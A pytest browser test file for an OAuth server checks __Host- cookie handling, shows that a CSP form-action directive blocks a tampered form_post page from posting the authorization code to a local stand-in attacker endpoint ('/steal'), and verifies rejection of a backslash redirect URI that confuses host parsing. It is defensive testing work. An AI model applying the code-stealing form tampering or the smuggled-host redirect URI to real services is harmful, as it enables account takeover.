"""Chromium over https (`ostiary serve --tls-self-signed`): the `__Host-` cookies carry a whole login, and a
form_post page cannot post the code anywhere but the redirect URI (CSP form-action), not even when the
redirect URI is the backslash trick that once fooled the matching."""

from __future__ import annotations

import base64
import hashlib
import secrets
from collections.abc import Iterator
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any
from urllib.parse import urlencode

import pytest

from tests.browser._helpers import (
    TIMEOUT_MS,
    CallbackServer,
    callback_server,
    decide_consent,
    launch,
    log_in,
    needs_browser,
)
from tests.browser.conftest import create_user
from tests.e2e._server import ServerProcess, start_server

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page, Route

pytestmark = [pytest.mark.browser, needs_browser]

TOKEN = "transport-initial-access-token"
USER, PASSWORD = "tls-user", "correct horse battery staple"


@dataclass(frozen=True)
class Tls:
    server: ServerProcess
    app: CallbackServer
    attacker: CallbackServer

    def new_client(self) -> str:
        """A public client, new to the user (so consent is asked), redirecting to the app recorder."""
        with self.server.http() as http:
            r = http.post("/register", headers={"Authorization": f"Bearer {TOKEN}"}, json={
                "client_name": "Form post app", "token_endpoint_auth_method": "none",
                "redirect_uris": [self.app.redirect_uri, "http://127.0.0.1/cb"], "scope": "openid"})
        assert r.status_code == 201, r.text
        return str(r.json()["client_id"])


@pytest.fixture(scope="module")
def tls(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Tls]:
    with callback_server() as app, callback_server() as attacker:
        server = start_server(tmp_path_factory.mktemp("browser-tls"), "--tls-self-signed", "--no-demo", tls=True,
                              env={"OSTIARY_REGISTRATION_TOKEN": TOKEN, "OSTIARY_KEYS__GENERATE": "ES256,RS256"})
        try:
            create_user(server, USER, PASSWORD, "Tess Ellis", "tess@example.org")
            yield Tls(server, app, attacker)
        finally:
            server.stop()


@pytest.fixture(scope="module")
def browser(tls: Tls) -> Iterator[Browser]:
    with launch() as b:
        yield b


def _page(browser: Browser) -> Page:
    context = browser.new_context(ignore_https_errors=True)  # the development certificate is self-signed
    context.set_default_timeout(TIMEOUT_MS)
    return context.new_page()


def _authorize(tls: Tls, client_id: str, redirect_uri: str, **extra: str) -> str:
    challenge = base64.urlsafe_b64encode(hashlib.sha256(secrets.token_bytes(32)).digest()).rstrip(b"=").decode()
    params = {"client_id": client_id, "redirect_uri": redirect_uri, "response_type": "code", "scope": "openid",
              "state": secrets.token_urlsafe(8), "code_challenge": challenge, "code_challenge_method": "S256", **extra}
    return f"{tls.server.issuer}/authorize?{urlencode(params)}"


def _sign_in(page: Page) -> None:
    log_in(page, USER, PASSWORD)
    page.wait_for_selector("button[name=decision][value=approve]")


def test_rfc6265bis_host_prefixed_cookies_carry_a_login_over_https(tls: Tls, browser: Browser) -> None:
    page = _page(browser)
    page.goto(_authorize(tls, tls.new_client(), tls.app.redirect_uri))
    _sign_in(page)  # the interaction cookie was accepted: Chromium drops a __Host- cookie with Path=/interaction
    decide_consent(page)
    page.wait_for_url(tls.app.base_url + "/callback?**")
    assert "code=" in page.url
    cookies = {c["name"]: c for c in page.context.cookies()}
    session = cookies["__Host-ostiary_session"]
    assert session["secure"] and session["httpOnly"] and session["path"] == "/" and session["sameSite"] == "Lax"
    assert not any(name.startswith("ostiary_") for name in cookies)
    page.context.close()


def _tamper(original: str, target: str, *, keep_csp: bool) -> Any:
    """A route handler changing the form_post page's form from `original` to `target` (as an injection would)."""

    def handle(route: Route) -> None:
        response = route.fetch()  # the consent answer, after its redirect: the form_post page
        body = response.text()
        if 'id="response"' not in body:
            route.fulfill(response=response)
            return
        headers = {k: v for k, v in response.headers.items() if keep_csp or k != "content-security-policy"}
        route.fulfill(response=response, headers=headers,
                      body=body.replace(f'action="{original}"', f'action="{target}"'))

    return handle


@pytest.mark.parametrize("keep_csp", [True, False], ids=["with-csp", "control-without-csp"])
def test_csp3_form_post_page_cannot_post_the_code_elsewhere(tls: Tls, browser: Browser, keep_csp: bool) -> None:
    tls.attacker.posts.clear()
    page = _page(browser)
    page.goto(_authorize(tls, tls.new_client(), tls.app.redirect_uri, response_mode="form_post"))
    _sign_in(page)
    page.route("**/interaction/**", _tamper(tls.app.redirect_uri, tls.attacker.base_url + "/steal", keep_csp=keep_csp))
    if keep_csp:
        with page.expect_console_message(lambda m: "form-action" in m.text):  # Chromium reports the refusal
            decide_consent(page)
        assert tls.attacker.posts == [], "the form_post page posted the code to another origin"
    else:  # the same page without its CSP does post there: the check above can fail
        decide_consent(page)
        page.wait_for_url(tls.attacker.base_url + "/steal")
        assert tls.attacker.posts and "code=" in tls.attacker.posts[0]
    page.context.close()


def test_rfc9700_4_1_3_backslash_redirect_uri_gets_no_code_by_form_post(tls: Tls, browser: Browser) -> None:
    # registered http://127.0.0.1/cb; urlsplit read this as host 127.0.0.1, Chromium reads localhost:PORT
    tls.attacker.posts.clear()
    port = tls.attacker.httpd.server_address[1]
    page = _page(browser)
    page.goto(_authorize(tls, tls.new_client(), f"http://localhost:{port}\\@127.0.0.1/cb", response_mode="form_post"))
    assert "not registered" in page.locator("main").inner_text()
    assert page.locator("#username").count() == 0
    assert tls.attacker.posts == []
    page.context.close()
